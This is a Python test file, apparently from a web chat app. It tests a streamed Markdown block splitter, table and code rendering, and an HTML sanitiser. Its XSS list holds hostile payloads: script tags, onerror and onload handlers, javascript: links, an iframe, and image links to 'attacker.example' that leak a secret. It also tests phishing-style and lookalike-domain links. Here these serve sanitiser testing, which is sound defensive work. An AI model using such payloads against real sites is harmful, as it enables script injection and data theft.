"""Markdown rendering and sanitising, and the block splitter behind streamed rendering."""

from __future__ import annotations

import re
from html.parser import HTMLParser

from hypothesis import given
from hypothesis import strategies as st

from drupe.web.render import BlockSplitter, highlight_css, render_markdown, render_plain


def split(text: str, step: int = 1) -> tuple[list[str], str]:
    splitter = BlockSplitter()
    blocks: list[str] = []
    for start in range(0, len(text), step):
        blocks += splitter.feed(text[start : start + step])
    return blocks, splitter.tail


def test_a_blank_line_finishes_a_block_once_the_next_block_starts():
    splitter = BlockSplitter()
    assert splitter.feed("First paragraph\n\n") == []
    assert splitter.feed("Second") == ["First paragraph\n\n"]
    assert splitter.tail == "Second"


def test_code_fences_keep_their_blank_lines():
    text = "Intro\n\n```python\ndef f():\n\n\n    return 1\n```\n\nAfter\n"
    blocks, tail = split(text)
    assert blocks == ["Intro\n\n", "```python\ndef f():\n\n\n    return 1\n```\n\n"]
    assert tail == "After\n"


def test_an_unclosed_fence_stays_in_the_tail():
    blocks, tail = split("```\ncode\n\nmore code\n\n")
    assert blocks == []
    assert tail == "```\ncode\n\nmore code\n\n"


def test_a_longer_closing_fence_of_the_same_kind_closes_and_other_kinds_do_not():
    blocks, _ = split("~~~~\na\n\n```\n\nb\n~~~~~\n\nnext")
    assert blocks == ["~~~~\na\n\n```\n\nb\n~~~~~\n\n"]


def test_indented_lines_after_a_blank_line_stay_with_the_list_item():
    blocks, tail = split("- item\n\n  continued\n- two\n\nDone")
    assert blocks == ["- item\n\n  continued\n- two\n\n"]
    assert tail == "Done"


def test_several_blank_lines_belong_to_the_block_before_them():
    blocks, tail = split("a\n\n\n\nb", step=3)
    assert blocks == ["a\n\n\n\n"]
    assert tail == "b"


def test_windows_line_endings():
    blocks, tail = split("a\r\n\r\nb\r\n")
    assert blocks == ["a\r\n\r\n"]
    assert tail == "b\r\n"


markdownish = st.lists(st.sampled_from(["a", " ", "\n", "\n\n", "```", "~~~", "`", "-", "\t", "\r\n", "#"])).map(
    "".join
)


@given(markdownish, st.lists(st.integers(min_value=1, max_value=7), max_size=30))
def test_blocks_and_tail_are_always_the_input_for_any_chunking(text, cuts):
    splitter = BlockSplitter()
    blocks: list[str] = []
    position = 0
    for size in cuts:
        blocks += splitter.feed(text[position : position + size])
        position += size
    blocks += splitter.feed(text[position:])
    assert "".join(blocks) + splitter.tail == text
    assert all(blocks)


@given(markdownish, st.integers(min_value=1, max_value=9))
def test_the_blocks_do_not_depend_on_the_chunking(text, step):
    assert split(text, step) == split(text, len(text) or 1)


def test_tables_lists_and_highlighted_code():
    html = render_markdown("| a | b |\n|---|--:|\n| 1 | 2 |\n\n1. one\n2. two\n\n```python\nx = 1\n```\n")
    # alignment kept as a class: the page's CSP refuses inline styles
    assert "<table>" in html and "<td>1</td>" in html and '<td class="align-right">2</td>' in html
    assert "style=" not in html
    assert "<ol>" in html
    assert '<pre class="highlight"><code class="language-python"><span class="n">x</span>' in html


def test_unknown_languages_are_escaped_and_hostile_info_strings_are_cleaned():
    html = render_markdown('```no-such-lang"><script>\n<b>x</b>\n```')
    assert "<script" not in html and "<b>" not in html
    assert "&lt;b&gt;x&lt;/b&gt;" in html


XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "![x](javascript:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe src=//evil.example></iframe>",
    '<div style="position:fixed">x</div>',
    "[rel](/api/providers)",
    "[data](data:text/html;base64,PHNjcmlwdD4=)",
    "![leak](https://attacker.example/?q=secret)",
    "![leak][r]\n\n[r]: http://attacker.example/x.png",
    '<span data-src="https://attacker.example/" class="remote-image">x</span>',
]


SAFE_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "del", "s", "code", "pre", "span",
    "blockquote", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "a", "img",
}  # fmt: skip


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))


def assert_inert(html: str) -> None:
    """Only harmless tags, no event handlers or styles, and URLs of the allowed schemes."""
    parser = _Tags()
    parser.feed(html)
    for tag, attrs in parser.tags:
        assert tag in SAFE_TAGS, html
        for name, value in attrs:
            assert not name.startswith("on") and name != "style", html
            if name == "href":
                assert (value or "").startswith(("http:", "https:", "mailto:")), html
            if name == "src":  # nothing the browser fetches by itself as the answer renders
                assert (value or "").startswith("data:image/"), html
            if name == "data-src":
                assert (value or "").startswith(("http:", "https:")), html


def test_hostile_markdown_comes_out_inert():
    for payload in XSS:
        assert_inert(render_markdown(payload))
    assert_inert(render_markdown("\n\n".join(XSS)))


def test_safe_links_and_images_are_kept():
    html = render_markdown(
        "[https://example.com](https://example.com) <mailto:me@example.com> ![i](data:image/png;base64,AAAA)"
    )
    assert (
        '<a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">https://example.com</a> '
        in html
    )
    assert (
        '<a href="mailto:me@example.com" target="_blank" rel="noopener noreferrer nofollow">mailto:me@example.com</a> '
        in html
    )
    assert '<img src="data:image/png;base64,AAAA" alt="i">' in html


def test_a_remote_image_is_a_placeholder_naming_its_host():
    html = render_markdown('![the chart](https://user@img.example:8443/c.png?q=a&b=secret "Chart")')
    assert "<img" not in html
    url = "https://user@img.example:8443/c.png?q=a&amp;b=secret"
    assert html == (
        f'<p><span class="remote-image" data-src="{url}" data-host="img.example:8443" data-alt="the chart" '
        f'title="{url}">Image from img.example:8443 (not loaded): the chart</span></p>\n'
    )
    assert 'data-host="img.example"' in render_markdown("![](http://IMG.example/x)")
    assert "Image from img.example (not loaded)</span>" in render_markdown("![](http://IMG.example/x)")


def test_the_streamed_blocks_and_tail_use_placeholders_too():
    blocks, tail = split("Intro\n\n![x](https://a.example/1.png)\n\n![y](https://b.example/2.png) and", step=5)
    for source in [*blocks, tail]:
        assert "<img" not in render_markdown(source)
    assert 'data-host="b.example"' in render_markdown(tail)


def test_links_show_their_real_host_when_the_text_is_something_else():
    def host_note(markdown: str) -> str | None:
        found = re.search(r'</a><span class="link-host"> \((.*?)\)</span>', render_markdown(markdown))
        return found.group(1) if found else None

    assert host_note("[your bank](https://evil.example/login)") == "evil.example"
    assert host_note("[https://bank.example](https://evil.example)") == "evil.example"
    assert host_note("[bank.example](https://bank.example.evil.example/)") == "bank.example.evil.example"
    assert host_note("[docs](https://user@evil.example:8080/)") == "evil.example:8080"
    assert host_note("[аpple.com](https://аpple.com)") == "xn--pple-43d.com"  # an international name shows as is
    assert host_note("[apple.com](https://аpple.com)") == "xn--pple-43d.com"  # Cyrillic а shows
    assert host_note("[write us](mailto:help@evil.example)") == "help@evil.example"
    assert host_note("[example.com/page](https://example.com/page)") is None
    assert host_note("[https://example.com](https://example.com)") is None
    assert host_note("<https://example.com/a>") is None
    assert host_note("<me@example.com>") is None


def test_user_text_is_escaped_with_line_breaks():
    assert render_plain("<b>hi</b>\nthere") == "&lt;b&gt;hi&lt;/b&gt;<br>\nthere"


def test_highlight_css_has_light_and_dark_rules():
    css = highlight_css()
    assert ".highlight .k" in css and ".dark .highlight .k" in css
